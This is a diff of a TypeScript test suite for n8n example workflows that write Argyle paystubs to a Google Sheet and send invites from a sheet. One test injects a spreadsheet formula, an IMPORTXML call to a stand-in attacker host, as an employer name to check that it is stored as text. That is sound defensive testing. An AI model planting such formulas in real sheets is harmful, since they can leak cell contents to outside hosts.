@@ -1,30 +1,44 @@
 import { randomUUID } from 'node:crypto';
 import type { FakeArgyle, StoredRecord } from '../support/fakeArgyle/index.mts';
-import type { FakeGoogle } from '../support/fakeGoogle.mts';
-import type { Json } from '../support/json.mts';
-import { runByHand } from '../support/n8n/example.mts';
+import { type FakeGoogle, FORMULA } from '../support/fakeGoogle.mts';
+import { isJson, type Json } from '../support/json.mts';
+import { readExamples, retryExecution, runByHand } from '../support/n8n/example.mts';
 import { chosen, type ExampleFixture } from './exampleFixture.mts';
 
-const SHEET = { parameters: { documentId: chosen('the-spreadsheet'), sheetName: chosen('gid=0') } };
+export const SHEET = { parameters: { documentId: chosen('the-spreadsheet'), sheetName: chosen('gid=0') } };
+
+/** The sheet of people, in each node that reads or writes it. */
+export const INVITE_SHEETS = Object.fromEntries(
+	['People', 'Write Sending', 'Write Result', 'People Afterwards'].map((node) => [node, SHEET]),
+);
 
 /** Delivers `paystubs.added` for new paystubs of a new account. */
-async function addPaystubs(argyle: FakeArgyle, count: number): Promise<StoredRecord[]> {
+export async function addPaystubs(argyle: FakeArgyle, count: number, fields: Json = {}): Promise<StoredRecord[]> {
 	const account = randomUUID();
-	const paystubs = argyle.addRecords('paystubs', count, { account });
+	const paystubs = argyle.addRecords('paystubs', count, { ...fields, account });
 	const user = argyle.accounts.get(account)?.user;
 	const [added_to, added_from] = [paystubs[0]?.paystub_date, paystubs.at(-1)?.paystub_date];
 	await argyle.deliver('paystubs.added', { account, user, added_count: count, added_from, added_to });
 	return paystubs;
 }
 
+/** The columns that the sample of the paystubs has, in its order. */
+function paystubColumns(): string[] {
+	const [sample]: unknown[] = Object.values(
+		readExamples().find(({ file }) => file === 'paystubs-to-sheet.json')?.pinData ?? {},
+	).slice(-1);
+	const [item]: unknown[] = Array.isArray(sample) ? sample : [];
+	return isJson(item) && isJson(item.json) ? Object.keys(item.json) : [];
+}
+
 /** Fills the sheet; without a status, people are not invited yet. */
-function fillSheet(google: FakeGoogle, people: string[][]): void {
+export function fillSheet(google: FakeGoogle, people: string[][]): void {
 	google.rows.length = 0;
 	google.rows.push(['First Name', 'Last Name', 'Email'], ...people);
 }
 
 /** The columns of the result, by e-mail address. */
-function resultsInSheet(google: FakeGoogle): Map<unknown, Json> {
+export function resultsInSheet(google: FakeGoogle): Map<unknown, Json> {
 	const [head = [], ...rows] = google.rows;
 	const results = rows.map((row) => Object.fromEntries(head.map((column, index) => [String(column), row[index]])));
 	return new Map(results.map((result) => [result.Email, result]));
@@ -40,19 +54,56 @@ export function sheetExampleTests(fixture: () => ExampleFixture): void {
 		const executions = await client.waitForExecutions(workflow.id, 2);
 		await client.unpublish(workflow.id);
 		expect(executions.map(({ status }) => status)).toEqual(['success', 'success']);
-		const columns = ['id', 'account', 'employer', 'status', 'paystub_date', 'paystub_period', 'currency'];
 		const [head = [], ...rows] = google.rows;
-		expect(head).toEqual([...columns, 'gross_pay', 'net_pay', 'hours']);
-		const cell = (value: unknown) => (value !== null && typeof value === 'object' ? JSON.stringify(value) : value);
-		const expected = paystubs.map((paystub) => head.map((column) => cell(paystub[String(column)])));
-		expect(rows.map(String).sort()).toEqual(expected.map(String).sort());
+		expect(head).toEqual(paystubColumns());
+		const amounts = ['gross_pay', 'net_pay', 'hours'];
+		const cell = (column: unknown, value: unknown) =>
+			amounts.includes(String(column)) ? Number(value) : isJson(value) ? JSON.stringify(value) : value;
+		const expected = paystubs.map((paystub) => head.map((column) => cell(column, paystub[String(column)])));
+		const sorted = (table: unknown[][]) => table.map((row) => JSON.stringify(row)).sort();
+		expect(sorted(rows)).toEqual(sorted(expected));
+	}, 60_000);
+
+	it('paystubs-to-sheet.json writes an employer who is named like a formula as text, and a missing amount as nothing', async () => {
+		const { client, argyle, google, importWorkflow } = fixture();
+		google.rows.length = 0;
+		const workflow = await importWorkflow('paystubs-to-sheet.json', { 'Add Rows': SHEET });
+		await client.publish(workflow);
+		const employer = '=IMPORTXML("https://evil.example.com/?"&A2, "//a")';
+		await addPaystubs(argyle, 1, { employer, hours: null });
+		const [execution] = await client.waitForExecutions(workflow.id, 1);
+		await client.unpublish(workflow.id);
+		expect(execution?.status).toBe('success');
+		const [head = [], row = []] = google.rows;
+		expect(row[head.indexOf('employer')]).toBe(employer);
+		expect(row[head.indexOf('hours')] ?? '').toBe('');
+		expect(row).not.toContain(FORMULA);
+	}, 60_000);
+
+	it('paystubs-to-sheet.json adds the rows of the other events when one is refused, and its own by Retry', async () => {
+		const { client, argyle, google, importWorkflow } = fixture();
+		google.rows.length = 0;
+		const workflow = await importWorkflow('paystubs-to-sheet.json', { 'Add Rows': SHEET });
+		await client.publish(workflow);
+		argyle.addFault({ kind: 'status', status: 403, method: 'GET', path: '/v2/paystubs', skip: 1 });
+		const paystubs: StoredRecord[] = [];
+		for (const count of [1, 2, 3]) {
+			paystubs.push(...(await addPaystubs(argyle, 1)));
+			await client.waitForExecutions(workflow.id, count);
+		}
+		const executions = await client.waitForExecutions(workflow.id, 3);
+		await client.unpublish(workflow.id);
+		expect(executions.map(({ status }) => status)).toEqual(['success', 'error', 'success']);
+		const ids = () => google.rows.slice(1).map(([id]) => id);
+		const [first, refused, last] = paystubs.map(({ id }) => id);
+		expect(ids()).toEqual([first, last]);
+		expect(await retryExecution(client, executions[1]?.id ?? '')).toMatchObject({ status: 'success' });
+		expect(ids()).toEqual([first, last, refused]);
 	}, 60_000);
 
 	it('sheet-to-invites.json invites each person of the sheet once, and writes into the sheet what came of it', async () => {
 		const { client, argyle, google, importWorkflow } = fixture();
-		const workflow = await importWorkflow('sheet-to-invites.json', {
-			...{ People: SHEET, 'Write Sending': SHEET, 'Write Result': SHEET },
-		});
+		const workflow = await importWorkflow('sheet-to-invites.json', INVITE_SHEETS);
 		fillSheet(google, [
 			['Alex', 'Sample', 'alex@example.com'],
 			['Bea', 'Other', 'no address'],
@@ -62,8 +113,12 @@ export function sheetExampleTests(fixture: () => ExampleFixture): void {
 		]);
 		argyle.addFault({ kind: 'statusAfterCommit', status: 502, method: 'POST', path: '/v2/invites' });
 		argyle.addFault({ kind: 'status', status: 500, method: 'POST', path: '/v2/invites', skip: 2 });
-		expect(await runByHand(client, workflow, 'Every Morning')).toMatchObject({ status: 'success' });
+		const { status, error } = await runByHand(client, workflow, 'Every Morning');
 		argyle.clearFaults();
+		expect(status).toBe('error');
+		expect(error).toMatch(/^3 of 5 people in the sheet are left out: Bea Other, not invited, Argyle did not accept /);
+		expect(error).toContain('; Dan Fourth, to be checked, It is not known whether the invite was sent');
+		expect(error).toContain('; No Address, not invited, Email is missing');
 		const results = resultsInSheet(google);
 		const [invite] = [...argyle.invites.values()].filter(({ email }) => email === 'alex@example.com');
 		expect(results.get('alex@example.com')).toMatchObject({
@@ -80,9 +135,22 @@ export function sheetExampleTests(fixture: () => ExampleFixture): void {
 		});
 		expect(JSON.stringify(google.rows)).not.toContain('verify.argyle.com');
 
-		const sent = argyle.messages.length;
-		await runByHand(client, workflow, 'Every Morning');
-		expect(argyle.messages).toHaveLength(sent);
-		expect(['alex', 'cem', 'dan'].map((name) => argyle.messagesTo(`${name}@example.com`))).toEqual([1, 1, 0]);
+		// The next morning: one address was corrected, Dan's invite is still to be looked for, a row was left by a crash.
+		const [, , bea = [], , , none = []] = google.rows;
+		bea[2] = 'bea@example.com';
+		none.fill('');
+		google.rows.push(['Eve', 'Fifth', 'eve@example.com', 'sending']);
+		const morning = await runByHand(client, workflow, 'Every Morning');
+		expect(morning.error).toMatch(
+			/^2 of 5 people in the sheet are left out: Dan Fourth, to be checked, .*; Eve Fifth, sending$/,
+		);
+		const messages = ['alex', 'bea', 'cem', 'dan', 'eve'].map((name) => argyle.messagesTo(`${name}@example.com`));
+		expect(messages).toEqual([1, 1, 1, 0, 0]);
+		expect(resultsInSheet(google).get('bea@example.com')).toMatchObject({ Status: 'invited', Message: '' });
+
+		// Somebody has looked.
+		for (const [index, row] of google.rows.entries()) if (index > 3) row[3] = 'invited';
+		expect(await runByHand(client, workflow, 'Every Morning')).toMatchObject({ status: 'success' });
+		expect(argyle.messagesTo('dan@example.com') + argyle.messagesTo('eve@example.com')).toBe(0);
 	}, 120_000);
 }
